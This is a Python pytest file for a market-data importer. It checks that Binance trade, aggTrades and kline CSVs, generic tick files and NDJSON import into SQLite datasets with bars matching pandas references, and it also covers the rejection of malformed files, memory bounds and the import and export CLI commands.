"""Tests for datafiles: format detection, streaming import into datasets, export.

Reference bars are computed here with pandas straight from the recorded WebSocket
frames (../shared/data/binance/derived), and, once, by the live path itself
(replay.py serving those frames to ingestion.IngestionService over 127.0.0.1).
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import os
import signal
import sqlite3
import struct
import subprocess
import sys
import threading
import time
import tracemalloc
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import datafiles
import storage
from datafiles import FileImportError, detect_format, import_file

SET_B = "usdm_trade_frames_btcusdt_ethusdt_20240808T2354_20240809T0000.jsonl.gz"
SET_A = "usdm_trade_frames_btcusdt_ethusdt_20240718T2357_20240719T0005.jsonl.gz"
NOW_MS = 1_760_000_000_000  # 2025-10-09, "now" for the future-timestamp check
TRADE_HEADER = "id,price,qty,quote_qty,time,is_buyer_maker\n"


# --------------------------------------------------------------------------- helpers


def frames_trades(path: Path) -> pd.DataFrame:
    """MARKET trades of a gz NDJSON of raw combined-stream frames (own parse)."""
    rows = []
    with gzip.open(path, "rt") as fh:
        for line in fh:
            data = json.loads(line)["data"]
            if data.get("e") == "trade" and data.get("X") == "MARKET":
                rows.append(
                    (
                        data["s"],
                        data["t"],
                        data["T"],
                        float(data["p"]),
                        float(data["q"]),
                    )
                )
    return pd.DataFrame(rows, columns=["symbol", "trade_id", "ts_ms", "price", "qty"])


def pandas_bars(trades: pd.DataFrame, interval_s: int) -> pd.DataFrame:
    """Bars by pandas groupby on trade-id order: the independent reference."""
    t = trades.sort_values("trade_id")
    width = interval_s * 1000
    bucket = t["ts_ms"] // width * width
    g = t.assign(quote=t["price"] * t["qty"]).groupby(bucket)
    out = pd.DataFrame(
        {
            "open": g["price"].first(),
            "high": g["price"].max(),
            "low": g["price"].min(),
            "close": g["price"].last(),
            "volume": g["qty"].sum(),
            "quote_volume": g["quote"].sum(),
            "trades": g["price"].size().astype("int64"),
        }
    )
    out.index = pd.to_datetime(out.index, unit="ms", utc=True).as_unit("ms")
    return out.rename_axis("ts").reset_index()


def assert_bars_equal(got: pd.DataFrame, want: pd.DataFrame) -> None:
    """OHLC and trades exactly, volumes to float precision."""
    got = got.reset_index(drop=True)
    want = want.reset_index(drop=True)
    assert len(got) == len(want)
    assert (got["ts"].dt.as_unit("ms") == want["ts"].dt.as_unit("ms")).all()
    for col in ("open", "high", "low", "close"):
        np.testing.assert_array_equal(got[col].to_numpy(), want[col].to_numpy())
    np.testing.assert_array_equal(
        got["trades"].to_numpy(dtype="int64"), want["trades"].to_numpy(dtype="int64")
    )
    for col in ("volume", "quote_volume"):
        np.testing.assert_allclose(got[col], want[col], rtol=1e-12)


def write(path: Path, text: str | bytes) -> Path:
    """Write a file (text as UTF-8) and return its path."""
    path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
    return path


def trades_csv_rows(
    n: int, *, start_id: int = 1000, t0: int = 1_723_161_256_322
) -> str:
    """n synthetic Binance trades rows (no header), deterministic."""
    ids = np.arange(start_id, start_id + n)
    ts = t0 + np.arange(n) * 7
    price = 60000.0 + (np.arange(n) % 97) * 0.1
    qty = 0.001 * (1 + np.arange(n) % 13)
    maker = np.where(np.arange(n) % 3 == 0, "true", "false")
    frame = pd.DataFrame(
        {
            "id": ids,
            "p": price.round(1),
            "q": qty.round(3),
            "qq": 0.0,
            "t": ts,
            "m": maker,
        }
    )
    return frame.to_csv(index=False, header=False, lineterminator="\n")


@pytest.fixture(scope="module")
def set_b_reference(shared_data: Path) -> pd.DataFrame:
    """MARKET trades of recording set B (2024-08-08, BTC and ETH)."""
    return frames_trades(shared_data / "derived" / SET_B)


@pytest.fixture(scope="module")
def set_b_dataset(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Dataset built by importing set B's derived trades CSVs (with header)."""
    base = tmp_path_factory.mktemp("setb")
    for sym in ("BTCUSDT", "ETHUSDT"):
        import_file(
            shared_data / "derived_csv" / f"{sym}-trades-2024-08-08-span.csv",
            dataset="set_b",
            base_dir=base,
            now_ms=NOW_MS,
        )
    return storage.dataset_db_path(base, "set_b")


# ------------------------------------------------------------------------- detection


@pytest.mark.parametrize(
    ("name", "kind", "header"),
    [
        ("derived_csv/BTCUSDT-trades-2024-08-08-span.csv", "trades", True),
        ("derived_csv/ETHUSDT-trades-2024-07-18-span.csv", "trades", False),
        (
            "csv_snippets_from_issues/"
            "um_aggTrades_BTCUSDT_2023-05_monthly_first10rows_issue339.csv",
            "aggTrades",
            True,
        ),
        (
            "csv_snippets_from_issues/"
            "um_trades_BTCUSDT_2020-08_monthly_first7rows_noheader_issue12.csv",
            "trades",
            False,
        ),
    ],
)
def test_detects_real_binance_files(
    shared_data: Path, name: str, kind: str, header: bool
) -> None:
    """Every real public-data layout is recognised by content, header or not."""
    fmt = detect_format(shared_data / name)
    assert (fmt.kind, fmt.has_header, fmt.ts_unit) == (kind, header, "ms")


def test_detects_generic_layouts_from_head_bytes() -> None:
    """Generic tick, OHLCV, klines and NDJSON heads are told apart by their content."""
    tick = detect_format(b"Time,Symbol,PX,Amount\n2024-01-01T00:00:00Z,BTCUSDT,1,2\n")
    assert tick.kind == "ticks"
    assert dict(tick.roles) == {
        "ts": "time",
        "price": "px",
        "qty": "amount",
        "symbol": "symbol",
    }
    ohlcv = detect_format(b"date,o,h,l,c\n2024-01-01,1,2,0.5,1.5\n")
    assert ohlcv.kind == "ohlcv" and ohlcv.ts_unit == "iso"
    kline = b"1723161240000,1,2,0.5,1.5,10,1723161299999,15,3,5,7,0\n"
    found = detect_format(kline)
    assert (found.kind, found.interval_s) == ("klines", 60)
    nd = detect_format(
        b'{"symbol":"BTCUSDT","ts":"2025-10-18T09:30:00.123Z",'
        b'"price":67000.5,"size":0.01}\n'
    )
    assert nd.kind == "ndjson" and nd.ts_unit == "iso"


def test_explicit_format_override_and_bad_name() -> None:
    """A forced format is checked against the columns; an unknown name is refused."""
    with pytest.raises(FileImportError, match="format aggTrades has 7 columns"):
        detect_format(b"1,2.0,3.0,6.0,1723161256322,true\n", fmt="aggtrades")
    with pytest.raises(ValueError, match="fmt must be one of"):
        detect_format(b"1,2\n", fmt="parquet")


def test_symbol_from_filename() -> None:
    """The symbol is the token before the first '-', else a USD-quoted token."""
    assert datafiles.symbol_from_filename("BTCUSDT-trades-2024-01-01.csv") == "BTCUSDT"
    assert (
        datafiles.symbol_from_filename("um_aggTrades_BTCUSDT_2023-05_x.csv")
        == "BTCUSDT"
    )
    assert datafiles.symbol_from_filename("prices.csv") is None


# ---------------------------------------------------------------- real data imports


def test_imported_trades_match_bars_from_recorded_frames(
    set_b_dataset: Path, set_b_reference: pd.DataFrame
) -> None:
    """1 s and 1 m bars of the imported CSVs equal pandas bars of the raw WS frames."""
    for sym in ("BTCUSDT", "ETHUSDT"):
        ref = set_b_reference[set_b_reference["symbol"] == sym]
        assert_bars_equal(
            storage.read_bars_1s(set_b_dataset, sym, None, None), pandas_bars(ref, 1)
        )
        assert_bars_equal(
            storage.read_bars_agg(set_b_dataset, sym, 60, None, None),
            pandas_bars(ref, 60),
        )


def test_headerless_files_crossing_midnight_match_frames(
    shared_data: Path, tmp_path: Path
) -> None:
    """Set A's header-less CSVs import and equal the frames' bars across midnight."""
    ref = frames_trades(shared_data / "derived" / SET_A)
    for sym in ("BTCUSDT", "ETHUSDT"):
        report = import_file(
            shared_data / "derived_csv" / f"{sym}-trades-2024-07-18-span.csv",
            dataset="set_a",
            base_dir=tmp_path,
            now_ms=NOW_MS,
        )
        want = ref[ref["symbol"] == sym]
        assert report.ticks_inserted == len(want)
        assert_bars_equal(
            storage.read_bars_agg(report.db_path, sym, 60, None, None),
            pandas_bars(want, 60),
        )


def test_live_path_bars_equal_imported_bars(
    shared_data: Path, set_b_dataset: Path, tmp_path: Path
) -> None:
    """Bars the live WebSocket path stores for set B equal the imported CSVs' bars."""
    ingestion = pytest.importorskip("ingestion")
    replay = pytest.importorskip("replay")
    running = replay.start_replay_in_thread(
        files=[shared_data / "derived" / SET_B], speed=0
    )
    live_db = tmp_path / "live.db"
    service = ingestion.IngestionService(
        ingestion.IngestionConfig(
            symbols=("BTCUSDT", "ETHUSDT"), db_path=live_db, base_url=running.url
        )
    )
    service.start()
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            stats = {s.symbol: s.ticks for s in storage.db_stats(live_db).symbols}
            if stats.get("BTCUSDT") == 21_313 and stats.get("ETHUSDT") == 14_076:
                break
            time.sleep(0.2)
    finally:
        service.stop()
        running.stop()
    for sym in ("BTCUSDT", "ETHUSDT"):
        assert_bars_equal(
            storage.read_bars_1s(set_b_dataset, sym, None, None),
            storage.read_bars_1s(live_db, sym, None, None),
        )
        assert_bars_equal(
            storage.read_bars_agg(set_b_dataset, sym, 60, None, None),
            storage.read_bars_agg(live_db, sym, 60, None, None),
        )


def test_out_of_order_agg_trades_snippet_is_sorted(
    shared_data: Path, tmp_path: Path
) -> None:
    """The interleaved aggTrades rows from issue 339 import sorted by aggregate id."""
    src = (
        shared_data
        / "csv_snippets_from_issues"
        / "um_aggTrades_BTCUSDT_2023-05_monthly_first10rows_issue339.csv"
    )
    report = import_file(src, dataset="agg", base_dir=tmp_path, now_ms=NOW_MS)
    assert (report.format, report.symbols, report.rows_read) == (
        "aggTrades",
        ("BTCUSDT",),
        10,
    )
    ticks = storage.read_ticks(report.db_path, "BTCUSDT", None, None)
    raw = pd.read_csv(src)
    assert ticks["trade_id"].tolist() == sorted(raw["agg_trade_id"].tolist())
    assert report.first_ts_ms == raw["transact_time"].min()
    assert report.last_ts_ms == raw["transact_time"].max()
    bars = storage.read_bars_1s(report.db_path, "BTCUSDT", None, None)
    first = raw.sort_values("agg_trade_id").iloc[0]
    assert bars["open"].iloc[0] == first["price"]


def test_old_headerless_trades_snippet(shared_data: Path, tmp_path: Path) -> None:
    """The 2020 header-less trades rows import with the symbol passed as an option."""
    src = (
        shared_data
        / "csv_snippets_from_issues"
        / "um_trades_BTCUSDT_2020-08_monthly_first7rows_noheader_issue12.csv"
    )
    report = import_file(
        src, dataset="old", base_dir=tmp_path, symbol="btcusdt", now_ms=NOW_MS
    )
    assert (report.symbols, report.ticks_inserted) == (("BTCUSDT",), 7)
    raw = pd.read_csv(src, header=None)
    ticks = storage.read_ticks(report.db_path, "BTCUSDT", None, None)
    assert sorted(ticks["trade_id"]) == sorted(raw[0])
    assert np.isclose(ticks["qty"].sum(), raw[2].sum(), rtol=1e-12)


def test_zip_and_microseconds_give_the_same_bars(
    shared_data: Path, tmp_path: Path, set_b_dataset: Path
) -> None:
    """A Binance-style zip with microsecond times imports to the same 1 s bars."""
    src = shared_data / "derived_csv" / "ETHUSDT-trades-2024-08-08-span.csv"
    frame = pd.read_csv(src)
    frame["time"] = frame["time"] * 1000 + 123
    member = frame.to_csv(index=False, header=False, lineterminator="\n")
    zpath = tmp_path / "ETHUSDT-trades-2024-08-08.zip"
    with zipfile.ZipFile(zpath, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("ETHUSDT-trades-2024-08-08.csv", member)
    fmt = detect_format(zpath)
    assert (fmt.compression, fmt.ts_unit, fmt.has_header) == ("zip", "us", False)
    report = import_file(zpath, dataset="zipped", base_dir=tmp_path, now_ms=NOW_MS)
    assert "timestamps in microseconds" in report.notes
    assert_bars_equal(
        storage.read_bars_1s(report.db_path, "ETHUSDT", None, None),
        storage.read_bars_1s(set_b_dataset, "ETHUSDT", None, None),
    )


# ------------------------------------------------------------------ other layouts


def test_duplicates_are_dropped_and_counted(tmp_path: Path) -> None:
    """Repeated trade ids inside a file and on re-import are dropped and counted."""
    body = trades_csv_rows(50)
    lines = body.splitlines(keepends=True)
    src = write(
        tmp_path / "BTCUSDT-trades-x.csv", TRADE_HEADER + body + "".join(lines[:5])
    )
    first = import_file(
        src, dataset="dups", base_dir=tmp_path, now_ms=NOW_MS, chunk_rows=20
    )
    assert (first.rows_read, first.ticks_inserted, first.duplicates_dropped) == (
        55,
        50,
        5,
    )
    again = import_file(src, dataset="dups", base_dir=tmp_path, now_ms=NOW_MS)
    assert (again.ticks_inserted, again.duplicates_dropped) == (0, 55)
    bars = storage.read_bars_1s(again.db_path, "BTCUSDT", None, None)
    assert bars["trades"].sum() == 50


def test_generic_tick_csv_with_synonyms_and_naive_iso(tmp_path: Path) -> None:
    """A user tick CSV with synonyms, ISO times without zone and a side column."""
    text = (
        "Datetime,Ticker,Last,Size,Side\n"
        "2024-08-08 23:54:00.500,ethusdt,2680.5,1.5,buy\n"
        "2024-08-08 23:54:00.100,ETHUSDT,2680.0,0.5,sell\n"
        "2024-08-08 23:54:01.000,BTCUSDT,61800.0,0.1,SELL\n"
    )
    report = import_file(
        write(tmp_path / "mine.csv", text),
        dataset="generic",
        base_dir=tmp_path,
        now_ms=NOW_MS,
    )
    assert report.format == "ticks"
    assert report.symbols == ("BTCUSDT", "ETHUSDT")
    assert "timestamps had no zone: UTC assumed" in report.notes
    bars = storage.read_bars_1s(report.db_path, "ETHUSDT", None, None)
    assert bars.iloc[0][["open", "close", "volume", "trades"]].tolist() == [
        2680.0,
        2680.5,
        2.0,
        2,
    ]
    ticks = storage.read_ticks(report.db_path, "ETHUSDT", None, None)
    assert ticks["is_buyer_maker"].tolist() == [True, False]
    assert ticks["ts"].iloc[0] == pd.Timestamp("2024-08-08T23:54:00.100Z")


def test_ndjson_ids_assigned_and_whole_line_duplicates(tmp_path: Path) -> None:
    """NDJSON ticks get ids in time order and identical lines count as duplicates."""
    rows = [
        {
            "symbol": "BTCUSDT",
            "ts": "2025-10-18T09:30:00.123Z",
            "price": 67000.5,
            "size": 0.01,
        },
        {
            "symbol": "BTCUSDT",
            "ts": "2025-10-18T09:30:00.100Z",
            "price": 67001.0,
            "size": 0.02,
        },
        {
            "symbol": "BTCUSDT",
            "ts": "2025-10-18T09:30:00.123Z",
            "price": 67000.5,
            "size": 0.03,
        },
    ]
    lines = [json.dumps(r) for r in rows]
    text = "\n".join([*lines, lines[0], "", lines[2]]) + "\n"
    report = import_file(
        write(tmp_path / "collector.ndjson", text),
        dataset="nd",
        base_dir=tmp_path,
        now_ms=1_800_000_000_000,
        chunk_rows=2,
    )
    assert (report.rows_read, report.ticks_inserted, report.duplicates_dropped) == (
        5,
        3,
        2,
    )
    bars = storage.read_bars_1s(report.db_path, "BTCUSDT", None, None)
    assert bars.iloc[0][["open", "high", "close", "trades"]].tolist() == [
        67001.0,
        67001.0,
        67000.5,
        3,
    ]
    assert np.isclose(bars["volume"].iloc[0], 0.06)


def test_klines_import_equals_bars_from_trades(
    shared_data: Path, tmp_path: Path, set_b_dataset: Path
) -> None:
    """Header-less µs klines built from the real trades land in `bars` unchanged."""
    ref = storage.read_bars_agg(set_b_dataset, "BTCUSDT", 60, None, None)
    open_us = ref["ts"].dt.as_unit("ms").astype("int64") * 1000
    klines = pd.DataFrame(
        {
            "open_time": open_us,
            "open": ref["open"],
            "high": ref["high"],
            "low": ref["low"],
            "close": ref["close"],
            "volume": ref["volume"],
            "close_time": open_us + 60_000_000 - 1,
            "quote_volume": ref["quote_volume"],
            "count": ref["trades"],
            "tbv": 0.0,
            "tbqv": 0.0,
            "ignore": 0,
        }
    )
    src = write(
        tmp_path / "BTCUSDT-1m-2024-08-08.csv", klines.to_csv(index=False, header=False)
    )
    report = import_file(src, dataset="kl", base_dir=tmp_path, now_ms=NOW_MS)
    assert (report.format, report.interval_s, report.bars_written) == (
        "klines",
        60,
        len(ref),
    )
    got = storage.read_bars(report.db_path, "BTCUSDT", 60, None, None)
    assert_bars_equal(got, ref)


def test_ohlcv_export_import_round_trip(set_b_dataset: Path, tmp_path: Path) -> None:
    """Exported 1 m bars re-import as an OHLCV dataset that reads back the same bars."""
    out = tmp_path / "bars.csv"
    exported = datafiles.export_bars(set_b_dataset, "ETHUSDT", 60, None, None, out)
    ref = storage.read_bars_agg(set_b_dataset, "ETHUSDT", 60, None, None)
    assert exported.rows == len(ref)
    assert out.read_text().splitlines()[0] == (
        "ts,open,high,low,close,volume,quote_volume,trades,vwap"
    )
    report = import_file(
        out, dataset="rt", base_dir=tmp_path, symbol="ETHUSDT", now_ms=NOW_MS
    )
    assert (report.format, report.interval_s) == ("ohlcv", 60)
    back = storage.read_bars(report.db_path, "ETHUSDT", 60, None, None)
    assert_bars_equal(back, ref)
    np.testing.assert_allclose(back["vwap"], ref["vwap"], rtol=1e-12)


def test_export_bars_window_and_sources(set_b_dataset: Path, tmp_path: Path) -> None:
    """A window export holds the buckets starting inside it, sliced, read complete."""
    start = pd.Timestamp("2024-08-08T23:55:00Z").value // 1_000_000
    end = pd.Timestamp("2024-08-08T23:58:00Z").value // 1_000_000
    buf = io.StringIO()
    report = datafiles.export_bars(
        set_b_dataset, "BTCUSDT", 60, start, end, buf, slice_ms=60_000
    )
    got = pd.read_csv(io.StringIO(buf.getvalue()))
    assert got["ts"].tolist() == [
        "2024-08-08T23:55:00.000Z",
        "2024-08-08T23:56:00.000Z",
        "2024-08-08T23:57:00.000Z",
    ]
    ref = storage.read_bars_agg(set_b_dataset, "BTCUSDT", 60, start, end)
    np.testing.assert_array_equal(got["close"], ref["close"])
    assert (report.rows, report.first_ts_ms) == (3, start)


def test_export_ticks_round_trip(set_b_dataset: Path, tmp_path: Path) -> None:
    """Exported ticks re-import as a generic tick CSV with the same ids and bars."""
    out = tmp_path / "ticks.csv"
    report = datafiles.export_ticks(set_b_dataset, "ETHUSDT", None, None, out)
    assert report.rows == 14_076
    back = import_file(out, dataset="ticks_rt", base_dir=tmp_path, now_ms=NOW_MS)
    assert (back.format, back.ticks_inserted) == ("ticks", 14_076)
    assert_bars_equal(
        storage.read_bars_1s(back.db_path, "ETHUSDT", None, None),
        storage.read_bars_1s(set_b_dataset, "ETHUSDT", None, None),
    )


def test_export_filename_and_csv_bytes() -> None:
    """File names carry kind, symbols, interval and UTC range; CSVs lead with params."""
    name = datafiles.export_filename(
        "pair", ["btcusdt", "ETHUSDT"], "1m", 1_723_161_240_000, 1_723_161_600_000
    )
    assert name == "pair_BTCUSDT-ETHUSDT_1m_20240808T235400Z_20240809T000000Z.csv"
    frame = pd.DataFrame(
        {"ts": pd.to_datetime([1_723_161_240_000], unit="ms", utc=True), "z": [1.5]}
    )
    data = datafiles.frame_to_csv_bytes(frame, ['params {"window": 60}'])
    assert data.decode() == (
        '# params {"window": 60}\nts,z\n2024-08-08T23:54:00.000Z,1.5\n'
    )


def test_comment_lines_are_skipped_on_import(tmp_path: Path) -> None:
    """Leading '#' lines written by frame_to_csv_bytes are skipped by the importer."""
    frame = pd.DataFrame(
        {
            "ts": pd.to_datetime(
                [1_723_161_240_000, 1_723_161_300_000], unit="ms", utc=True
            ),
            "open": [1.0, 2.0],
            "high": [2.0, 3.0],
            "low": [0.5, 1.5],
            "close": [1.5, 2.5],
        }
    )
    src = write(
        tmp_path / "BTCUSDT-mine.csv",
        datafiles.frame_to_csv_bytes(frame, ["exported by me"]),
    )
    report = import_file(src, dataset="c", base_dir=tmp_path, now_ms=NOW_MS)
    assert (report.rows_read, report.interval_s) == (2, 60)
    assert "no volume column: volume set to 0" in report.notes


def test_progress_is_reported_per_chunk(shared_data: Path, tmp_path: Path) -> None:
    """The progress callback sees growing row counts and reaches the whole file."""
    seen: list[datafiles.ImportProgress] = []
    import_file(
        shared_data / "derived_csv" / "BTCUSDT-trades-2024-07-18-span.csv",
        dataset="p",
        base_dir=tmp_path,
        chunk_rows=2_000,
        progress=seen.append,
        now_ms=NOW_MS,
    )
    assert [p.rows_read for p in seen] == [*range(2_000, 10_701, 2_000), 10_701]
    assert seen[-1].fraction == pytest.approx(1.0)


# ------------------------------------------------------------------- bad-file corpus

BAD_FILES = [
    ("empty.csv", b"", "the file is empty"),
    ("blank.csv", b"\n\n  \n", "the file is empty"),
    (
        "header_only.csv",
        TRADE_HEADER.encode(),
        "the file has a header row but no data rows",
    ),
    ("binary.csv", bytes(range(256)) * 4, r"binary content \(NUL byte at offset 0\)"),
    (
        "semicolon.csv",
        b"timestamp;symbol;price;qty\n1723161256322;BTCUSDT;1;2\n",
        "row 1, .*separated by semicolons, expected commas",
    ),
    (
        "no_price.csv",
        b"timestamp,symbol,qty\n1723161256322,BTCUSDT,2\n",
        r"row 1, .*no price column \(looked for price, px, last",
    ),
    (
        "BTCUSDT-trades-nonnum.csv",
        (
            TRADE_HEADER + "1,60000.1,0.1,0,1723161256322,true\n"
            "2,abc,0.1,0,1723161256323,true\n"
        ).encode(),
        "row 3, column 'price', value 'abc': not a number",
    ),
    (
        "BTCUSDT-trades-negative.csv",
        b"1,60000.1,0.1,0,1723161256322,true\n2,-5,0.1,0,1723161256323,true\n",
        "row 2, column 'price', value '-5': must be greater than 0",
    ),
    (
        "BTCUSDT-trades-zero.csv",
        b"1,0,0.1,0,1723161256322,true\n",
        "row 1, column 'price', value '0': must be greater than 0",
    ),
    (
        "BTCUSDT-trades-mixed.csv",
        b"1,1.5,0.1,0,1723161256322,true\n2,1.5,0.1,0,1723161256323000,true\n",
        "row 2, column 'time', value '1723161256323000': mixed timestamp units: "
        "this looks like microseconds but row 1 was in milliseconds",
    ),
    (
        "BTCUSDT-trades-future.csv",
        b"1,1.5,0.1,0,1723161256322,true\n2,1.5,0.1,0,4102444800000,true\n",
        r"row 2, column 'time', value '4102444800000': timestamp 2100-01-01T00:00:00"
        r"\+00:00 is in the future",
    ),
    (
        "BTCUSDT-trades-2017.csv",
        b"1,1.5,0.1,0,1500000000000,true\n",
        "row 1, column 'time', value '1500000000000': timestamp 2017-07-14.* is before "
        "2019, when Binance USD-M futures opened",
    ),
    (
        "BTCUSDT-trades-columns.csv",
        b"1,1.5,0.1,0,1723161256322,true\n2,1.5,0.1,0,1723161256322,true,9\n",
        "row 2: expected 6 columns, found 7",
    ),
]


def _zip_without_csv(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("README.txt", "no data here")
    return path


@pytest.mark.parametrize(("name", "content", "message"), BAD_FILES)
def test_bad_file_is_refused_and_leaves_nothing(
    tmp_path: Path, name: str, content: bytes, message: str
) -> None:
    """Each bad file is refused with a message naming it, and the dataset is intact."""
    good = write(tmp_path / "BTCUSDT-trades-good.csv", trades_csv_rows(10))
    kept = import_file(good, dataset="keep", base_dir=tmp_path, now_ms=NOW_MS)
    before = kept.db_path.read_bytes()
    src = write(tmp_path / name, content)
    with pytest.raises(FileImportError, match=f"^{name}, {message}|^{name}: {message}"):
        import_file(src, dataset="keep", base_dir=tmp_path, now_ms=NOW_MS, chunk_rows=1)
    assert kept.db_path.read_bytes() == before
    with pytest.raises(FileImportError):
        import_file(src, dataset="fresh", base_dir=tmp_path, now_ms=NOW_MS)
    assert storage.list_datasets(tmp_path) == ["keep"]
    leftovers = sorted(p.name for p in (tmp_path / "datasets").iterdir())
    assert leftovers == ["keep.db"]


def test_bad_row_in_a_later_chunk_rolls_back_everything(tmp_path: Path) -> None:
    """A bad value after many good chunks still leaves no dataset behind."""
    body = trades_csv_rows(1_000) + "1000000,60000,0.1,0,not-a-time,true\n"
    src = write(tmp_path / "BTCUSDT-trades-late.csv", body)
    with pytest.raises(FileImportError, match="row 1001, column 'time'"):
        import_file(
            src, dataset="late", base_dir=tmp_path, chunk_rows=100, now_ms=NOW_MS
        )
    assert storage.list_datasets(tmp_path) == []


def test_zip_without_csv_is_refused(tmp_path: Path) -> None:
    """A zip with no CSV member is refused, naming what it holds."""
    src = _zip_without_csv(tmp_path / "BTCUSDT-trades-2024-01-01.zip")
    with pytest.raises(
        FileImportError,
        match=r"BTCUSDT-trades-2024-01-01.zip: the zip archive holds no CSV file "
        r"\(found: README.txt\)",
    ):
        import_file(src, dataset="z", base_dir=tmp_path, now_ms=NOW_MS)
    assert storage.list_datasets(tmp_path) == []


def test_caller_mistakes_raise_value_error(tmp_path: Path) -> None:
    """A bad dataset name, symbol or chunk size is a ValueError naming the argument."""
    src = write(tmp_path / "BTCUSDT-trades-x.csv", trades_csv_rows(3))
    with pytest.raises(ValueError, match="a dataset name is 1-64 letters"):
        import_file(src, dataset="../evil", base_dir=tmp_path)
    with pytest.raises(ValueError, match="symbol must be 2-20 letters or digits"):
        import_file(src, dataset="ok", base_dir=tmp_path, symbol="BTC/USDT")
    with pytest.raises(ValueError, match="chunk_rows must be >= 1, got 0"):
        import_file(src, dataset="ok", base_dir=tmp_path, chunk_rows=0)


def test_symbol_needed_when_file_does_not_name_one(tmp_path: Path) -> None:
    """A file without a symbol column or symbol-like name asks for the symbol."""
    src = write(tmp_path / "data.csv", trades_csv_rows(3))
    with pytest.raises(FileImportError, match="data.csv: cannot tell the symbol"):
        import_file(src, dataset="s", base_dir=tmp_path, now_ms=NOW_MS)


# ------------------------------------------------------------------------ memory, CLI


def _peak_import_bytes(tmp_path: Path, rows: int, tag: str) -> int:
    src = tmp_path / f"BTCUSDT-trades-{tag}.csv"
    with open(src, "w") as fh:
        for start in range(0, rows, 250_000):
            n = min(250_000, rows - start)
            fh.write(
                trades_csv_rows(
                    n, start_id=1_000 + start, t0=1_723_161_256_322 + start * 7
                )
            )
    tracemalloc.start()
    try:
        report = import_file(
            src, dataset=tag, base_dir=tmp_path, chunk_rows=50_000, now_ms=NOW_MS
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert report.ticks_inserted == rows
    return peak


@pytest.mark.slow
def test_memory_stays_bounded_as_the_file_grows(tmp_path: Path) -> None:
    """Peak memory importing 1 M rows is about that of 150 k rows (chunked)."""
    small = _peak_import_bytes(tmp_path, 150_000, "small")
    large = _peak_import_bytes(tmp_path, 1_000_000, "large")
    print(
        f"tracemalloc peak: 150k rows {small / 2**20:.1f} MB, "
        f"1M rows {large / 2**20:.1f} MB"
    )
    assert large < 1.3 * small
    assert large < 120 * 2**20


# VmHWM, not getrusage's ru_maxrss: on Linux the latter keeps the high-water
# mark of the (possibly large) test process that forked this one
_PEAK_RSS_CHILD = """
import re, runpy, sys
sys.argv = ["ingestion.py", *sys.argv[1:]]
try:
    runpy.run_path("ingestion.py", run_name="__main__")
except SystemExit as exc:
    code = exc.code
else:
    code = 0
with open("/proc/self/status") as fh:
    print("PEAK_RSS_KB", re.search(r"VmHWM:\\s+(\\d+) kB", fh.read()).group(1))
sys.exit(code)
"""


def _cli_import_peak_rss_mb(
    src: Path, db: Path, returncode: int = 0
) -> tuple[float, str, str]:
    """Peak RSS (MB) of `python ingestion.py import SRC` in a fresh process, which
    must exit with `returncode`."""
    repo = Path(__file__).resolve().parent.parent
    done = subprocess.run(
        [sys.executable, "-c", _PEAK_RSS_CHILD, "import", str(src)]
        + ["--dataset", src.stem.replace("-", "_"), "--db", str(db)],
        cwd=repo,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == returncode, done.stderr[-2000:]
    peak_kb = int(done.stdout.rsplit("PEAK_RSS_KB", 1)[1].split()[0])
    return peak_kb / 1024, done.stdout, done.stderr


@pytest.mark.slow
def test_ten_million_row_file_streams_through_the_cli_in_bounded_memory(
    tmp_path: Path,
) -> None:
    """A 10 M-row Binance trades CSV (about 500 MB) imports through the CLI with
    a progress line; its peak RSS is that of a 1 M-row file (chunks, not the file,
    are held), and every row lands with its 1 s bars."""
    sizes = {"small": 1_000_000, "large": 10_000_000}
    peaks = {}
    for tag, rows in sizes.items():
        src = tmp_path / f"BTCUSDT-trades-{tag}.csv"
        with open(src, "w") as fh:
            for start in range(0, rows, 500_000):
                fh.write(
                    trades_csv_rows(
                        500_000,
                        start_id=1_000 + start,
                        t0=1_723_161_256_322 + start * 7,
                    )
                )
        db = tmp_path / "market.db"
        peaks[tag], out, err = _cli_import_peak_rss_mb(src, db)
        src.unlink()  # half a gigabyte: do not keep two
        assert f"{rows} ticks" in out, out
        assert f"{rows:,} rows" in err, err[-500:]
    print(f"peak RSS: 1 M rows {peaks['small']:.0f} MB, 10 M {peaks['large']:.0f} MB")
    assert peaks["large"] < 1.15 * peaks["small"] + 16, peaks
    assert peaks["large"] < 400, peaks
    target = storage.dataset_target(tmp_path / "market.db", "BTCUSDT_trades_large")
    with sqlite3.connect(storage.as_target(target)) as conn:
        ticks, lo, hi = conn.execute(
            "SELECT count(*), min(trade_id), max(trade_id) FROM ticks"
        ).fetchone()
        bars, trades = conn.execute(
            "SELECT count(*), sum(trades) FROM bars_1s"
        ).fetchone()
    assert (ticks, lo, hi) == (10_000_000, 1_000, 10_000_999)
    assert trades == 10_000_000
    t0, last = 1_723_161_256_322, 1_723_161_256_322 + 7 * (10_000_000 - 1)
    assert bars == last // 1000 - t0 // 1000 + 1  # a trade every 7 ms: no empty second


def test_cli_import_and_export(
    shared_data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The import and export subcommands run end to end with a progress line."""
    parser = argparse.ArgumentParser()
    datafiles.add_cli_commands(parser.add_subparsers(dest="command", required=True))
    db = tmp_path / "market.db"
    src = shared_data / "derived_csv" / "BTCUSDT-trades-2024-08-08-span.csv"
    args = parser.parse_args(["import", str(src), "--dataset", "cli", "--db", str(db)])
    assert args.func(args) == 0
    captured = capsys.readouterr()
    assert "21,313 rows" in captured.err
    assert "21313 ticks" in captured.out
    out = tmp_path / "out.csv"
    args = parser.parse_args(
        [
            "export",
            "bars",
            "--symbol",
            "BTCUSDT",
            "--interval",
            "1m",
            "--dataset",
            "cli",
            "--start",
            "2024-08-08T23:55:00Z",
            "--end",
            "2024-08-08T23:57:00",
            "--db",
            str(db),
            "--out",
            str(out),
        ]
    )
    assert args.func(args) == 0
    lines = out.read_text().splitlines()
    assert [ln.split(",")[0] for ln in lines] == [
        "ts",
        "2024-08-08T23:55:00.000Z",
        "2024-08-08T23:56:00.000Z",
    ]
